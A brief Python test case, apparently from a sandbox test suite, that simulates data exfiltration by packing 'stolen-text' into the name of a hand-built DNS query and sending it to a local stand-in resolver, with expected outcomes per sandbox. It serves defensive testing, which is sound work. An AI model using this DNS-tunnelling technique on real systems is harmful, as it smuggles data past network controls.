"""Carries data out in the name of a DNS query."""

CAUGHT_BY = "sandbox: no network, or no sockets"
EXPECT = {"bubblewrap": "harmless", "landlock": "harmless", "none": "reached"}


def at_start(counts):
    name = b"".join(bytes([len(part)]) + part for part in (b"stolen-text", b"example", b"com"))
    query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + name + b"\0\0\x01\0\x01"
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.sendto(query, ("::ffff:127.0.0.1", WORLD["dns"]))
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(query, ("127.0.0.1", WORLD["dns"]))
